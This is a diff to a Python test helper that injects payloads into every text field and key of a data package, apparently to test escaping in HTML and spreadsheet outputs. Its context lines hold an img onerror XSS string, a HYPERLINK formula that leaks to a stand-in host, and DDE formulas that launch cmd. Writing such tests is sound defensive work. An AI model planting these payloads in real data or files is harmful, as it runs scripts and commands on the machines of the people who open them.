@@ -167,12 +167,12 @@ TEXT_PAYLOADS = [
 ]
 ID_PAYLOAD = f'"><img src=x onerror="{SCRIPT}">'
 FORMULAS = ['=HYPERLINK("http://x.example/?leak","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
-KEYS = {"source_id", "event_key", "claim_key", "announcement_key"}
+KEYS = {"source_id", "event_key", "claim_key", "announcement_key", "until_event"}
 
 
 def with_payloads(ws: Workspace) -> None:
-    """Every text field of every table holds a payload (a formula first, for the spreadsheet rule) and every id
-    ends with one; enumerated fields, file names, checksums, numbers and dates stay as they are."""
+    """Every text field of every table holds a payload (a formula first, for the spreadsheet rule) and every id and
+    key ends with one; enumerations, vocabularies, file names, checksums, numbers and dates stay as they are."""
     package = __import__("json").loads((ws.data / "datapackage.json").read_text(encoding="utf-8"))
     n = 0
     for res in package["resources"]:
@@ -184,6 +184,8 @@ def with_payloads(ws: Workspace) -> None:
                     continue
                 if name in KEYS or constraints.get("unique"):
                     row[name] += ID_PAYLOAD
+                elif "pattern" in constraints:  # a vocabulary (countries, sectors, topics): the checks keep it so
+                    continue
                 else:
                     row[name] = f"{FORMULAS[n % 3]} {row[name]} {TEXT_PAYLOADS[n % 5]}"
                     n += 1
